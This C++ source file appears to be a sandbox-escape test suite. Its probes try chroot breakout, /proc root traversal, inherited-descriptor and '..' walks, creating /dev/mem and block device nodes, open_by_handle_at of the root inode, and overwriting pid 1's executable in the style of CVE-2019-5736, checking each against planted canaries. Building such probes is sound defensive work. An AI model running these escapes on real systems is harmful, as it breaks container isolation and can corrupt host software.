// SPDX-License-Identifier: Apache-2.0
//
// Ways from one's own files and descriptors to files outside (K05, K12, K17, K25, K26).
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "probe.h"

namespace atl::escape {
namespace {

std::string link_target(const std::string& path) {
  char target[512] = {};
  long n = raw(SYS_readlinkat, AT_FDCWD, path.c_str(), target, sizeof target - 1);
  return n < 0 ? std::string() : std::string(target, static_cast<std::size_t>(n));
}

// The canary's path as seen from the root of the host, below a folder that may be that root.
std::string read_below(const std::string& root, const Args& args) {
  for (const char* key : {"canary", "neighbour_canary", "data_canary"}) {
    const std::string& path = arg(args, key);
    if (path.empty()) continue;
    std::string text = read_text((root + path).c_str(), 256);
    if (!text.empty()) return root + path + ": " + text;
  }
  return {};
}

Outcome canary_by_path(const Args& args) {
  std::string found = read_below("", args);
  return found.empty() ? blocked(errno) : reached(found);
}

Outcome roots_of_processes(const Args& args) {
  DIR* open = ::opendir("/proc");
  if (open == nullptr) return blocked(errno);
  std::string found;
  int error = 0;
  while (dirent* entry = ::readdir(open)) {
    if (std::atoi(entry->d_name) <= 0) continue;
    for (const char* way : {"/root", "/cwd", "/task/1/root"}) {
      found = read_below(std::string("/proc/") + entry->d_name + way, args);
      if (found.empty()) error = errno;
      if (!found.empty()) break;
    }
    if (!found.empty()) break;
  }
  ::closedir(open);
  return found.empty() ? blocked(error) : reached(found);
}

// Descriptors that this process was started with. The harness expects no more than standard input, output and
// error.
Outcome inherited_descriptors(const Args& args) {
  std::string listed;
  std::string found;
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat status{};
    if (raw(SYS_fcntl, fd, F_GETFD) < 0 || ::fstat(fd, &status) != 0) continue;
    // The frame's own pipe has close-on-exec set; what was inherited over exec cannot have had it.
    if ((raw(SYS_fcntl, fd, F_GETFD) & FD_CLOEXEC) != 0) continue;
    std::string path = "/proc/self/fd/" + std::to_string(fd);
    listed += path + " -> " + link_target(path) + "\n";
    if (S_ISDIR(status.st_mode)) found += read_below(path, args);
    if (S_ISDIR(status.st_mode)) found += read_below(path + "/../../../../..", args);
  }
  return listed.empty() ? blocked(0, "none") : reached(listed + found);
}

Outcome parents_of_folders(const Args& args) {
  const std::string up = "/../../../../../../../../../..";
  for (const char* from :
       {"/proc/thread-self/cwd", "/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/dev/fd", "."}) {
    std::string found = read_below(from + up, args);
    if (!found.empty()) return reached(found);
  }
  return blocked(errno);
}

Outcome leave_chroot(const Args& args) {
  raw(SYS_mkdirat, AT_FDCWD, "/tmp/.escape-chroot", 0700);
  long old_root = raw(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY, 0);
  if (raw(SYS_chroot, "/tmp/.escape-chroot") < 0) return blocked(errno, "chroot");
  raw(SYS_fchdir, old_root);
  for (int i = 0; i < 64; ++i) raw(SYS_chdir, "..");
  raw(SYS_chroot, ".");
  std::string found = read_below("", args);
  return found.empty() ? blocked(errno, "chroot works, but leads nowhere") : reached(found);
}

// --- device nodes
// ---------------------------------------------------------------------------------------------

Outcome make_and_read(mode_t kind, unsigned major_number, unsigned minor_number, const Args& args,
                      const char* folder) {
  std::string path = std::string(folder) + "/.escape-node";
  raw(SYS_unlinkat, AT_FDCWD, path.c_str(), 0);
  if (raw(SYS_mknodat, AT_FDCWD, path.c_str(), kind | 0600, makedev(major_number, minor_number)) < 0)
    return blocked(errno, "mknod");
  long fd = raw(SYS_openat, AT_FDCWD, path.c_str(), O_RDONLY | O_NONBLOCK, 0);
  int error = errno;
  raw(SYS_unlinkat, AT_FDCWD, path.c_str(), 0);
  if (fd < 0) return blocked(error, "mknod worked, open did not");
  std::string data(65536, '\0');
  long n = raw(SYS_read, fd, data.data(), data.size());
  if (n < 0) return {true, errno, "the node opens"};
  data.resize(static_cast<std::size_t>(n));
  return reached("the node opens " + find_needle(data, arg(args, "needle")));
}

Outcome loop_node(const Args& args) {
  // The harness made a loop device whose first block holds a canary.
  auto minor_number = static_cast<unsigned>(int_arg(args, "loop_minor"));
  Outcome last = blocked(EPERM);
  for (const char* folder : {"/tmp", "/dev/shm", "/dev", "/root", "/home", "/var/tmp"}) {
    last = make_and_read(S_IFBLK, 7, minor_number, args, folder);
    if (last.reached) break;
  }
  return last;
}

// Overlay's mark for a deleted file. Any user may make this one (mknod(2)), but not with Landlock around it.
Outcome make_whiteout(const Args&) {
  Outcome last = blocked(EPERM);
  for (const char* path : {"/dev/shm/.escape-whiteout", "/tmp/.escape-whiteout"}) {
    last = judge(raw(SYS_mknodat, AT_FDCWD, path, S_IFCHR | 0600, makedev(0, 0)));
    raw(SYS_unlinkat, AT_FDCWD, path, 0);
    if (last.reached) break;
  }
  return last;
}

// --- handles
// --------------------------------------------------------------------------------------------------

Outcome root_by_handle(const Args& args) {
  long mount = raw(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY, 0);
  // Inode 2, any generation: the root folder of an ext4 file system (FILEID_INO32_GEN).
  struct {
    unsigned bytes;
    int type;
    std::uint32_t inode, generation;
  } handle{8, 1, 2, 0};
  long fd = raw(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
  if (fd < 0) return judge(fd, {ESTALE});
  return reached(read_below("/proc/self/fd/" + std::to_string(fd), args));
}

// --- binaries of the host
// -------------------------------------------------------------------------------------

Outcome overwrite_agent(const Args& args) {
  std::vector<std::string> paths = {"/proc/1/exe", link_target("/proc/1/exe")};
  if (!arg(args, "agent_exe").empty()) paths.push_back(arg(args, "agent_exe"));
  Outcome last = blocked(ENOENT);
  for (const std::string& path : paths) {
    if (path.empty()) continue;
    long fd = raw(SYS_openat, AT_FDCWD, path.c_str(), O_WRONLY | O_CLOEXEC, 0);
    if (fd < 0) {
      last = blocked(errno, "open " + path);
      continue;
    }
    const std::string& marker = arg(args, "nonce");
    long n = raw(SYS_pwrite64, fd, marker.data(), marker.size(), 0);
    return n < 0 ? Outcome{true, errno, "opens for writing: " + path} : reached("written: " + path);
  }
  return last;
}

Outcome reopen_agent_descriptor(const Args&) {
  // CVE-2019-5736: keep a descriptor of the program, then open it again for writing through /proc.
  long fd = raw(SYS_openat, AT_FDCWD, "/proc/1/exe", O_RDONLY | O_CLOEXEC, 0);
  if (fd < 0) fd = raw(SYS_openat, AT_FDCWD, "/proc/1/exe", O_PATH | O_CLOEXEC, 0);
  if (fd < 0) return blocked(errno, "open");
  std::string again = "/proc/self/fd/" + std::to_string(fd);
  // "Text file busy" comes after the permission check: it opens as soon as the program no longer runs.
  return judge(raw(SYS_openat, AT_FDCWD, again.c_str(), O_WRONLY | O_CLOEXEC, 0), {ETXTBSY});
}

// A file of the template, which every sandbox shares, changed in place.
Outcome write_shared_layer(const Args& args) {
  const std::string& path = arg(args, "shared_file");
  if (path.empty()) return blocked(ENOENT);
  long fd = raw(SYS_openat, AT_FDCWD, path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC, 0);
  if (fd < 0) return blocked(errno, "open");
  const std::string& marker = arg(args, "nonce");
  return judge(raw(SYS_write, fd, marker.data(), marker.size()));
}

Outcome set_trusted_attribute(const char* name) {
  raw(SYS_close, raw(SYS_openat, AT_FDCWD, "/tmp/.escape-x", O_WRONLY | O_CREAT, 0600));
  return judge(raw(SYS_setxattr, "/tmp/.escape-x", name, "y", 1, 0));
}

constexpr Probe kProbes[] = {
    {"K05.canary_path", "read the canary by its path on the host", canary_by_path},
    {"K05.process_roots", "read the canary through /proc/*/root and cwd", roots_of_processes},
    {"K05.descriptors", "use a descriptor that was inherited", inherited_descriptors},
    {"K05.parents", "walk up from every folder one holds", parents_of_folders},
    {"K05.chroot", "leave the root by a second chroot", leave_chroot},

    {"K12.loop", "make and read a block device node", loop_node},
    {"K12.mem", "make and open a node of /dev/mem",
     [](const Args& args) { return make_and_read(S_IFCHR, 1, 1, args, "/tmp"); }},
    {"K12.kmsg", "make and open a node of /dev/kmsg",
     [](const Args& args) { return make_and_read(S_IFCHR, 1, 11, args, "/tmp"); }},
    {"K12.tun", "make and open a node of /dev/net/tun",
     [](const Args& args) { return make_and_read(S_IFCHR, 10, 200, args, "/tmp"); }},
    {"K12.fuse", "make and open a node of /dev/fuse",
     [](const Args& args) { return make_and_read(S_IFCHR, 10, 229, args, "/tmp"); }},
    {"K12.kvm", "make and open a node of /dev/kvm",
     [](const Args& args) { return make_and_read(S_IFCHR, 10, 232, args, "/tmp"); }},

    {"K12.whiteout", "make an overlay whiteout", make_whiteout},

    {"K17.root_handle", "open_by_handle_at of inode 2", root_by_handle},

    {"K25.trusted_xattr", "set trusted.overlay.redirect",
     [](const Args&) { return set_trusted_attribute("trusted.overlay.redirect"); }},

    {"K26.agent_program", "write the program of pid 1", overwrite_agent},
    {"K26.agent_reopen", "open the program of pid 1 again for writing", reopen_agent_descriptor},
    {"K31.shared_layer", "write a file that all sandboxes share", write_shared_layer},
};

}  // namespace

std::span<const Probe> file_probes() { return kProbes; }

}  // namespace atl::escape
